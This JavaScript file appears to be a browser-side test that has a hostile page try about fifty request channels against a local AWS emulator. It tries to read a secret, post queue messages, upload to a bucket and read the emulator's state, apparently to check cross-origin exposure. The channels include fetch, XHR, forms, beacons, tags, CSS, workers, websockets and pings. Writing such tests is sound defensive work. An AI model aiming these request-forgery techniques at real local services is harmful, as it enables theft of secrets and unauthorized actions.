/**
 * What a page tries to read a secret and to post a task. It runs in a browser, in a page of somebody else.
 *
 * Every address is marked with the way that asks for it. The double's log then says what arrived, and how it
 * was answered.
 */
// biome-ignore lint/correctness/noUnusedVariables: evaluated in the page
async function attack({ base, mark, region, secret, queue, bucket, redirect }) {
  const PATIENCE = 2000;
  const read = [];
  const note = (text) => read.push(String(text));
  const address = (way, path = '/', query = {}) =>
    `${base}${path}?${new URLSearchParams({ ...query, way: `${mark}.${way}` })}`;
  const settled = (begin) =>
    new Promise((resolve) => {
      setTimeout(resolve, PATIENCE);
      begin(resolve);
    });

  const signed = (service, target) => ({
    authorization: `AWS4-HMAC-SHA256 Credential=page/20260101/${region}/${service}/aws4_request, SignedHeaders=host, Signature=0`,
    'content-type': 'application/x-amz-json-1.1',
    'x-amz-target': target,
  });
  const state = '/moto-api/data.json';
  const getSecret = [signed('secretsmanager', 'secretsmanager.GetSecretValue'), JSON.stringify({ SecretId: secret })];
  const sendTask = (way) => [
    signed('sqs', 'AmazonSQS.SendMessage'),
    JSON.stringify({ QueueUrl: queue, MessageBody: `${mark}.${way}` }),
  ];
  const queuePath = new URL(queue).pathname;
  const task = (way) => ({ Action: 'SendMessage', Version: '2012-11-05', MessageBody: `${mark}.${way}` });
  const upload = (way) => ({ key: `${mark}.${way}`, file: 'put by a page' });

  const fetched = (url, options) =>
    fetch(url, options).then(async (response) => note(`${response.status} ${await response.text()}`));
  const post = (way, [headers, body]) => fetched(address(way), { method: 'POST', headers, body });
  const xhr = (way, [headers, body]) =>
    settled((resolve) => {
      const request = new XMLHttpRequest();
      request.open('POST', address(way));
      for (const [name, value] of Object.entries(headers)) {
        request.setRequestHeader(name, value);
      }
      request.onloadend = () => resolve(note(request.responseText));
      request.send(body);
    });
  const formData = (fields) => {
    const data = new FormData();
    for (const [name, value] of Object.entries(fields)) {
      data.append(name, value);
    }
    return data;
  };
  const element = (name, attributes, inside = document.body) =>
    settled((resolve) => {
      const made = Object.assign(document.createElement(name), { onload: resolve, onerror: resolve }, attributes);
      inside.append(made);
    });
  const frame = (attributes, after = () => undefined) =>
    settled((resolve) => {
      const made = document.createElement('iframe');
      made.onload = () => {
        try {
          note(made.contentDocument.documentElement.outerHTML);
        } catch {
          // Of another origin, as it should be.
        }
      };
      Object.assign(made, attributes);
      document.body.append(made);
      after(made);
      setTimeout(resolve, PATIENCE / 2);
    });
  const form = (action, enctype, fields, method = 'post') =>
    frame({ name: action }, () => {
      const made = Object.assign(document.createElement('form'), { action, enctype, method, target: action });
      for (const [name, value] of Object.entries(fields)) {
        made.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
      }
      document.body.append(made);
      made.submit();
    });
  const inWorker = (source) =>
    settled((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      worker.onmessage = ({ data }) => resolve(note(data));
      worker.onerror = resolve;
    });
  const quoted = JSON.stringify;
  const style = (way, css) => element('style', { textContent: css(address(way, state)) }, document.head);
  const linked = (rel, more = {}) =>
    element('link', { rel, href: address(`link-${rel}`, state), ...more }, document.head);

  const ways = [
    () => post('fetch-secret', getSecret),
    () => post('fetch-task', sendTask('fetch-task')),
    () => xhr('xhr-secret', getSecret),
    () => xhr('xhr-task', sendTask('xhr-task')),
    () => fetched(address('fetch-state', state)),
    () => fetched(address('credentials-state', state), { credentials: 'include' }),
    () => fetched(address('no-cors-state', state), { mode: 'no-cors' }),
    () => fetched(address('no-referrer-state', state), { referrerPolicy: 'no-referrer' }),
    () => fetched(address('cached-state', state), { cache: 'force-cache' }),
    () => fetched(redirect),
    () =>
      fetched(address('no-cors-task', queuePath), {
        method: 'POST',
        mode: 'no-cors',
        body: new URLSearchParams(task('no-cors-task')),
      }),
    () => fetched(address('no-cors-text'), { method: 'POST', mode: 'no-cors', body: sendTask('no-cors-text')[1] }),
    () =>
      fetched(address('no-cors-upload', `/${bucket}`), {
        method: 'POST',
        mode: 'no-cors',
        body: formData(upload('no-cors-upload')),
      }),
    () =>
      fetched(address('keepalive-upload', `/${bucket}`), {
        method: 'POST',
        keepalive: true,
        body: formData(upload('keepalive-upload')),
      }),
    () => fetched(address('put-object', `/${bucket}/${mark}.put-object`), { method: 'PUT', body: 'put by a page' }),
    () => fetched(address('get-object', `/${bucket}/secret`)),
    () => form(address('form-task', queuePath), 'application/x-www-form-urlencoded', task('form-task')),
    () => form(address('form-text'), 'text/plain', { '{"QueueUrl": "': `${queue}", "MessageBody": "form-text"}` }),
    () => form(address('form-upload', `/${bucket}`), 'multipart/form-data', upload('form-upload')),
    () =>
      form(
        address('form-get', queuePath),
        'application/x-www-form-urlencoded',
        { ...task('form-get'), way: `${mark}.form-get` },
        'get',
      ),
    () => navigator.sendBeacon(address('beacon-task', queuePath), new URLSearchParams(task('beacon-task'))),
    () => navigator.sendBeacon(address('beacon-upload', `/${bucket}`), formData(upload('beacon-upload'))),
    () => element('img', { src: address('img', queuePath, task('img')) }),
    () => element('img', { src: address('img-cors', queuePath, task('img-cors')), crossOrigin: 'anonymous' }),
    () => element('script', { src: address('script', state) }),
    () => element('script', { src: address('module', state), type: 'module' }),
    () => element('object', { data: address('object', state) }),
    () => element('embed', { src: address('embed', state) }),
    () => element('video', { src: address('video', state) }),
    () => element('audio', { src: address('audio', state) }),
    () => linked('stylesheet'),
    () => linked('prefetch'),
    () => linked('preload', { as: 'fetch', crossOrigin: 'anonymous' }),
    () => linked('modulepreload'),
    () => linked('icon'),
    () => style('css-import', (url) => `@import ${quoted(url)};`),
    () => style('css-background', (url) => `body { background: url(${quoted(url)}); }`),
    () => new FontFace('theirs', `url(${quoted(address('font', state))})`).load(),
    () => frame({ src: address('iframe', state) }),
    () => frame({ srcdoc: `<meta http-equiv="refresh" content="0; url=${address('refresh', state)}">` }),
    () =>
      settled((resolve) => {
        const source = new EventSource(address('event-source', state));
        source.onmessage = ({ data }) => note(data);
        source.onerror = () => resolve(source.close());
      }),
    () =>
      settled((resolve) => {
        const socket = new WebSocket(address('web-socket', state).replace(/^http/, 'ws'));
        socket.onmessage = ({ data }) => note(data);
        socket.onclose = resolve;
      }),
    () => inWorker(`importScripts(${quoted(address('import-scripts', state))}); postMessage('');`),
    () => inWorker(`fetch(${quoted(address('worker-fetch', state))}).then((r) => r.text()).then(postMessage);`),
    () => import(address('import', state)),
    () => {
      const opened = open(address('popup', state));
      return settled((resolve) => setTimeout(resolve, PATIENCE / 2)).then(() => {
        note(opened.document.documentElement.outerHTML);
      });
    },
    () => Object.assign(document.createElement('a'), { href: '#', ping: address('ping', queuePath) }).click(),
  ];
  await Promise.all(ways.map(async (way) => way()).map((way) => way.catch(() => undefined)));
  // The requests of beacons and pings outlive what began them.
  await settled((resolve) => setTimeout(resolve, PATIENCE / 4));
  note(document.documentElement.outerHTML);
  note(quoted(performance.getEntriesByType('resource')));
  return read;
}
